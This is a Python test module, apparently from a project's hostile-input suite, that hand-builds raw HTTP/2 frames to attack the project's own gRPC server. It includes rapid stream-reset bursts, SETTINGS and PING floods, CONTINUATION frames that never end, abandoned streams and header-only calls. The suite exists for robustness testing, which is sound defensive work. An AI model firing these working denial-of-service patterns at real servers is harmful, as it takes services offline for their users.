"""Attacks on the gRPC door. Each function is one round of one attack."""

from __future__ import annotations

from typing import Any

import grpc
from tests.hostile.kafka_attacks import BOMBED
from tests.hostile.target import Target

from headrace.wire.grpc.generated import headrace_pb2 as pb
from headrace.wire.grpc.generated import headrace_pb2_grpc as stubs

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = bytes(3) + b"\x04\0" + bytes(4)
made: Any = stubs


async def streams_that_are_left(target: Target) -> None:
    """Conversations and tails that are opened, and whose clients go away."""
    async with grpc.aio.insecure_channel(target.grpc) as channel:
        queues, messages = made.QueuesStub(channel), made.MessagesStub(channel)
        opened = [queues.Consume() for _ in range(50)]
        for number, call in enumerate(opened):
            wanted = pb.ConsumeOpen(group=f"left-{number}", topics=["quiet"], credit=1_000)
            await call.write(pb.ConsumeRequest(open=wanted))
        tails = [
            messages.Tail(pb.TailRequest(topic=BOMBED, start=pb.START_EARLIEST)) for _ in range(20)
        ]
        await target.pause(3)
        del tails


async def streams_reset_at_once(target: Target) -> None:
    """HTTP/2 streams that are opened and reset, thousands in a row."""
    async with target.connect(target.grpc) as peer:
        await peer.send(PREFACE + SETTINGS)
        for start in range(1, 4_000, 200):
            burst = b"".join(
                _frame(1, 4, number, b"\x83\x86\x84\x41\x01a") + _frame(3, 0, number, bytes(4))
                for number in range(start, start + 200, 2)
            )
            await peer.send(burst)


async def settings_and_pings_without_end(target: Target) -> None:
    async with target.connect(target.grpc) as peer:
        await peer.send(PREFACE)
        for _ in range(200):
            await peer.send((SETTINGS + _frame(6, 0, 0, bytes(8))) * 50)


async def headers_that_go_on(target: Target) -> None:
    """CONTINUATION frames without the flag that ends them."""
    async with target.connect(target.grpc) as peer:
        await peer.send(PREFACE + SETTINGS + _frame(1, 0, 1, b"\x83\x86\x84\x41\x01a"))
        for _ in range(500):
            await peer.send(_frame(9, 0, 1, b"\x40\x01a\x7f\x81\x7e" + b"b" * 254))


async def calls_without_a_request(target: Target) -> None:
    """Heads of calls by the hundred, on connections that say nothing more."""
    path = b"/headrace.v1.Topics/List"
    fields = b"\x83\x86\x44" + bytes([len(path)]) + path + b"\x41\x01a"
    fields += b"\x5f\x10application/grpc\x40\x02te\x08trailers"
    async with target.crowd(target.grpc, 20) as peers:
        for peer in peers:
            heads = b"".join(_frame(1, 4, number, fields) for number in range(1, 100, 2))
            await peer.send(PREFACE + SETTINGS + heads)
        await target.pause(5)


async def no_http_at_all(target: Target) -> None:
    for nonsense in (b"GET / HTTP/1.1\r\n\r\n", bytes(1_000), PREFACE + b"\xff" * 1_000):
        async with target.connect(target.grpc) as peer:
            await peer.send(nonsense)
            await peer.reader.read(1_000)


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
    )
